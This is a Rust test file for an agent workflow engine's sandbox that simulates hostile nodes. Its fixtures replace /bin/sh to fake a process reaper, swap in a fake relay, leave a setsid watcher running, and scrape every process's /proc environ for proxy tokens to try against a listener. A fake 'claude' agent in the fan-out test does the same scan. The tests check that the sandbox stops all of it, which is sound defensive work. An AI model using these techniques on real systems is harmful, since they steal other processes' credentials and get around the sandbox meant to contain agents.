//! Escape class 6, credentials and processes between nodes: a node replaces the container's `/bin/sh` with a
//! wrapper that answers the leftover kill's script with "0 killed" and runs everything else, swaps the relay's
//! directory for one holding a fake relay (a path below a writable directory can be moved aside), and leaves a
//! `setsid` watcher behind that reads every process's environment for proxy credentials and tries each new one
//! against a host listener the next node may reach. The next node's credential must never be usable by it.

use crate::credentials::{TOKEN_OF, Target, connect_fn};
use crate::harness::{Hostile, engine_ready, show};

fn read(h: &Hostile, rel: &str) -> String {
    std::fs::read_to_string(h.repo().join(rel)).unwrap_or_default()
}

#[test]
fn a_node_that_replaces_the_shell_leaves_nothing_running_for_the_next_node() {
    if !engine_ready("escapes::procs::replaced_shell") {
        return;
    }
    let h = Hostile::new();
    let t = Target::start();
    let connect = connect_fn(t.port);
    h.write(
        "plant.sh",
        "printf '#!/bin/busybox sh\\ncase \"$*\" in *iterion-reap*) echo 0; exit 0 ;; esac\\nexec /bin/busybox sh \"$@\"\\n' > /tmp/fake-sh\n\
         chmod 755 /tmp/fake-sh\n\
         rm -f /bin/sh && cp /tmp/fake-sh /bin/sh\n\
         head -n 2 /bin/sh > replaced.txt\n\
         printf '#!/bin/busybox sh\\necho 0\\n' > /tmp/fake-reap && chmod 755 /tmp/fake-reap\n\
         mv /run/iterion/relay /run/iterion/moved && mkdir /run/iterion/relay && ln -s /run/iterion/moved/proxy.sock /run/iterion/relay/proxy.sock && cp /tmp/fake-reap /run/iterion/relay/iterion-relay && echo relay-path >> hijacked.txt\n\
         for p in /.iterion-reap /.iterion-reap/x; do mv \"$p\" /tmp/x 2>/dev/null || rm -f \"$p\" 2>/dev/null; cp /tmp/fake-reap \"$p\" 2>/dev/null && echo \"$p\" >> hijacked.txt; done\n\
         setsid /bin/busybox sh ./watch.sh </dev/null >/dev/null 2>&1 &\n\
         echo '{}'\n",
    );
    h.write(
        "watch.sh",
        &format!(
            "{connect}: > seen.txt\ni=0\nwhile [ \"$i\" -lt 60 ]; do\n  i=$((i+1))\n  for f in /proc/[0-9]*/environ; do tr '\\000' '\\n' < \"$f\" 2>/dev/null; done | grep -i '_proxy=' | {TOKEN_OF} | sort -u > /tmp/now.txt\n  while read -r tok; do\n    if ! grep -q \"$tok\" seen.txt; then echo \"$tok\" >> seen.txt; connect \"$tok\" leftover >> tried.txt; fi\n  done < /tmp/now.txt\n  echo \"$i\" > heartbeat.txt\n  sleep 0.25\ndone\n"
        ),
    );
    h.write(
        "wide.sh",
        &format!(
            "{connect}tok=$(echo \"$HTTP_PROXY\" | {TOKEN_OF})\necho \"$tok\" > wide-token.txt\nsleep 4\nconnect \"$tok\" wide > wide.txt\nps > ps.txt 2>&1\necho '{{}}'\n"
        ),
    );
    let out = h.run_workflow(
        "wf.bot",
        "tool plant:\n  sandbox:\n    network:\n      inherit: replace\n      mode: allowlist\n      rules: [\"narrow.invalid\"]\n  command: \"sh ./plant.sh\"\n\ntool wide:\n  command: \"sh ./wide.sh\"\n\nworkflow w:\n  entry: plant\n  sandbox:\n    mode: auto\n    network:\n      mode: allowlist\n      rules: [\"127.0.0.1\"]\n  plant -> wide\n  wide -> done\n",
    );
    assert!(out.status.success(), "{}", show(&out));
    // the attack took place: the shell was replaced and the watcher started
    assert!(
        read(&h, "replaced.txt").starts_with("#!/bin/busybox sh"),
        "the shell was replaced: {:?}",
        read(&h, "replaced.txt")
    );
    assert!(!read(&h, "heartbeat.txt").is_empty(), "the watcher ran");
    // the relay's own directory could be swapped, the reaper's path could not
    assert_eq!(read(&h, "hijacked.txt"), "relay-path\n");
    // the control: the next node reached the listener with its own credential
    let wide_token = read(&h, "wide-token.txt").trim().to_owned();
    assert_eq!(wide_token.len(), 64, "wide's token: {wide_token:?}");
    assert!(
        read(&h, "wide.txt").contains(" 200 "),
        "{:?}",
        read(&h, "wide.txt")
    );
    assert!(t.seen().contains(&"wide".to_owned()), "{:?}", t.seen());
    // the watcher never saw the next node's credential, never reached the listener, and was gone meanwhile
    let seen = read(&h, "seen.txt");
    assert!(
        !seen.contains(&wide_token),
        "the leftover read the next node's credential: {seen}"
    );
    assert!(
        !t.seen().contains(&"leftover".to_owned()),
        "the leftover reached the listener: {:?}",
        t.seen()
    );
    let ps = read(&h, "ps.txt");
    assert!(!ps.is_empty(), "wide listed the processes");
    assert!(
        !ps.contains("watch.sh"),
        "the leftover still runs while the next node does:\n{ps}"
    );
}

/// A fake `claude` CLI for the fan-out test: `wide` holds its credential for five seconds, then uses it;
/// `narrow` scans every process's environment for other credentials meanwhile and tries each on the listener.
fn fake_agent(port: u16) -> String {
    format!(
        "#!/bin/sh\nif [ \"$1\" = \"--version\" ]; then echo \"fake-claude 1.0\"; exit 0; fi\ncat > /dev/null\nd=\"$(dirname \"$0\")/.fake\"\n{connect}own=$(echo \"$HTTP_PROXY\" | {TOKEN_OF})\ncase \"$ITERION_NODE_ID\" in\n  wide)\n    echo \"$own\" > \"$d/wide-token\"\n    sleep 5\n    connect \"$own\" wide > \"$d/wide\"\n    ;;\n  narrow)\n    echo \"$own\" > \"$d/narrow-token\"\n    : > \"$d/found\"\n    i=0\n    while [ \"$i\" -lt 24 ]; do\n      i=$((i+1))\n      for f in /proc/[0-9]*/environ; do tr '\\000' '\\n' < \"$f\" 2>/dev/null; done | grep -i '_proxy=' | {TOKEN_OF} | sort -u | while read -r tok; do\n        [ \"$tok\" = \"$own\" ] && continue\n        grep -q \"$tok\" \"$d/found\" && continue\n        echo \"$tok\" >> \"$d/found\"\n        connect \"$tok\" narrow >> \"$d/tried\"\n      done\n      sleep 0.25\n    done\n    ;;\nesac\necho '{{\"type\":\"result\",\"is_error\":false,\"result\":\"{{}}\"}}'\n",
        connect = connect_fn(port),
    )
}

/// Two fan-out branches, agents of one sandbox: `wide` under the run's policy (which allows the host
/// listener), `narrow` with a policy that allows nothing it can reach. `narrow` must never get a credential
/// of `wide`'s: the branches do not run side by side.
#[test]
fn a_fan_out_branch_never_reads_a_sibling_s_broader_credential() {
    if !engine_ready("escapes::procs::fan_out") {
        return;
    }
    let h = Hostile::new();
    let t = Target::start();
    let fake = h.write("fake-claude", &fake_agent(t.port));
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::create_dir_all(h.repo().join(".fake")).unwrap();
    h.write(
        "wf.bot",
        "agent wide:\n  backend: \"claude_code\"\n  readonly: true\n\nagent narrow:\n  backend: \"claude_code\"\n  readonly: true\n  sandbox:\n    network:\n      inherit: replace\n      mode: allowlist\n      rules: [\"narrow.invalid\"]\n\nrouter fan:\n  mode: fan_out_all\n\ncompute m:\n  await: wait_all\n  expr:\n    ok: \"true\"\n\nworkflow w:\n  entry: fan\n  sandbox:\n    mode: auto\n    network:\n      mode: allowlist\n      rules: [\"127.0.0.1\"]\n  fan -> wide\n  fan -> narrow\n  wide -> m\n  narrow -> m\n  m -> done\n",
    );
    let out = h
        .cmd(&["run", "wf.bot", "--json"])
        .env("ITERION_CLAUDE_BIN", &fake)
        .env("ANTHROPIC_API_KEY", "sk-test-key")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", show(&out));
    // the control: wide reached the listener with its own credential; narrow had one of its own
    assert!(
        read(&h, ".fake/wide").contains(" 200 "),
        "{:?}",
        read(&h, ".fake/wide")
    );
    assert!(t.seen().contains(&"wide".to_owned()), "{:?}", t.seen());
    assert_eq!(read(&h, ".fake/narrow-token").trim().len(), 64);
    let wide_token = read(&h, ".fake/wide-token").trim().to_owned();
    assert_eq!(wide_token.len(), 64);
    let found = read(&h, ".fake/found");
    assert!(
        !found.contains(&wide_token),
        "narrow read wide's credential: {found}"
    );
    assert!(
        !t.seen().contains(&"narrow".to_owned()),
        "narrow reached the listener: {:?}",
        t.seen()
    );
}
